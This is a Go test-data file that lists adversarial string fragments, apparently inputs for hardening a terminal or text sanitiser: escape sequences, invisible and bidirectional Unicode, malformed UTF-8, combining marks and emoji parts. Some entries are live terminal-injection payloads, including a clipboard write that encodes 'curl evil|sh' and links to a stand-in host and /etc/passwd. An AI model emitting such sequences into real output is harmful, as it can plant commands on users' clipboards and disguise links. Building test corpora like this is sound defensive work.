//go:build proof

package hostile

// pieces are what the attacks and accidents known to us were made of.
var pieces = func() []string {
	all := append(append(append([]string(nil), sequences...), invisible...), letters...)
	return append(all, emoji...)
}()

// sequences are commands to terminals, whole, torn and in their C1 spelling:
// clipboard, title, links, notes, queries that the terminal answers by typing,
// graphics, screens, resets, and the brackets around a paste.
var sequences = []string{
	"\x1b", "\x1b[", "\x1b]", "\x1bP", "\x1b_", "\x1b^", "\x1bX", "\x1b\\", "\x07", "\x9b", "\x9d", "\x9c",
	"\u009b", "\u009d", "\u009c", "\u0090", "\u0098", "\u009e", "\u009f", "\u0084", "\u0085", "\u0080",
	"\x1b]52;c;Y3VybCBldmlsfHNo\x07", "\x1b]52;c;?\x1b\\", "\u009d52;p;QQ==\u009c", "\x1b]0;Titel\x07", "\x1b]2;x\x1b\\",
	"\x1b]8;;http://boese.example/\x1b\\", "\x1b]8;;\x1b\\", "\x1b]8;id=1;file:///etc/passwd\x07", "\x1b]9;Hinweis\x07",
	"\x1b]777;notify;a;b\x07", "\x1b]99;i=1:d=0;a\x1b\\", "\x1b]1337;File=name=YQ==:QQ==\x07", "\x1b]4;1;?\x07", "\x1b]10;?\x1b\\", "\x1b]50;?\x07",
	"\x1bP$q\"p\x1b\\", "\x1bP+q544e\x1b\\", "\x1bPq#0;2;0;0;0\x1b\\", "\x1b_Gi=1,a=q;AAAA\x1b\\", "\x1b[6n", "\x1b[c", "\x1b[>c", "\x1b[21t", "\x1b[5n",
	"\x1b[2J", "\x1b[H", "\x1b[1;1H", "\x1b[31m", "\x1b[8m", "\x1b[0m", "\x1b[38;2;1;2;3m", "\x1b[?1049l", "\x1b[?2026h", "\x1b[?25l", "\x1b[3g",
	"\x1b[200~", "\x1b[201~", "[200~", "[201~", "[20", "1~", "\x1bc", "\x1b7", "\x1b(0", "\x1b#8", "\x1b%@", "\x1bD", "\x1bM", "\x1b[", "\x1b[?", "\x1b[1;",
	"31m", "8;;http://x", "52;c;QQ==", ";", "?", "\r", "\r\n", "\n", "\n\n", "\t", "\v", "\f", "\b", "\x00", "\x7f", "\x0e", "\x0f", "\x05", "\x18", "\x1a",
}

// invisible are characters that hide, turn around or prevent, and bytes that
// are none.
var invisible = []string{
	"\u2028", "\u2029", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c",
	"\u200b", "\u200c", "\u200d", "\u2060", "\u2061", "\u2064", "\u206a", "\u00ad", "\u034f", "\u115f", "\u1160", "\u17b4", "\u180b", "\u180e", "\u3164", "\uffa0",
	"\ufe00", "\ufe0e", "\ufe0f", "\ufeff", "\ufff9", "\ufffb", "\ufffc", "\ufffd", "\ufffe", "\uffff", "\ufdd0", "\ue000", "\uf8ff", "\U000f0000", "\U0010ffff",
	"\U000e0001", "\U000e0020", "\U000e0041", "\U000e0100", "\U000e01ef", "\U0001d173", "\U0001bca0", "\U00013430", "\u2800", "\u0378",
	"\xff", "\xfe", "\xc3", "\xe2\x80", "\xf0\x9f\x91", "\xed\xa0\x80", "\xc0\x80", "\xc0\xaf", "\xf4\x90\x80\x80", "\xf8\x88\x80\x80\x80", "\x80", "\xbf",
}

// letters are words, marks in every state of normalising, and the scripts in
// which a cluster is more than a letter.
var letters = []string{
	"a", "e", "1", "#", "*", " ", "  ", "-", "=", "+", "@", "|", "ä", "ü", "ß", "Grüße", "hallo", "Bäckerei", "A\u0308", "u\u0308", "\u00a0", "\u3000", "\u2003", "\u1680",
	"\u0300", "\u0301", "\u0308", "\u0323", "\u0327", "\u0335", "\u0338", "\u0344", "\u035c", "\u0360", "\u0489", "\u20e3", "\u20dd", "\u0f73", "\u302a", "\u3099", "\U0001d165", "\U0001e94a",
	"\u0301\u0301\u0301\u0301\u0301\u0301", "\u0327\u0301\u0323\u0308", "Z\u0351\u0326\u030d\u0317\u0302",
	"ᄀ", "ᅡ", "ᆨ", "가", "각", "क", "ष", "क्ष", "\u093c", "\u094d", "\u0958", "\u09be", "\u09c7", "ে", "ه", "ل", "لا", "می\u200cخواهم", "\u064e", "\u0651", "\u0654", "\u06dd", "\u0600",
	"ש\u05c1\u05bc\u05b8", "\u05b8", "\ufb2c", "ก", "ำ", "ກ", "ຳ", "ကြ", "ၾ", "ཀྵ", "\u0d4e", "\U000111c2", "\U00011a84", "你", "好", "ｶ", "\uff9e", "\uff9f", "Å", "\u212b", "\u212a", "\u2126", "\u2000", "\u2329", "\u1ff7",
	"\u13f8", "\ua9c0", "𝒳", "ﷺ", "ﬁ", "꧁", "𒐫", "\u0df4", "⸻",
}

// emoji are whole ones and the parts they are made of.
var emoji = []string{
	"👩", "👨", "❤", "☹", "👍", "🏽", "🏿", "🏴", "🇩", "🇪", "🇩🇪", "🏳", "🏳️‍🌈", "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
	"\U000e0067", "\U000e0062", "\U000e0065", "\U000e006e", "\U000e007f", "\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f",
	"👨‍👩‍👧", "👩\u200d", "\u200d👩", "1\ufe0f\u20e3", "#\u20e3", "❤️", "⚠️", "👁️‍🗨️", "👩🏽‍💻", "🫠", "🫱🏻‍🫲🏿", "©", "™", "‼", "\u2139\ufe0f", "\U0001fae9", "\U0001facd", "\u20e3",
}
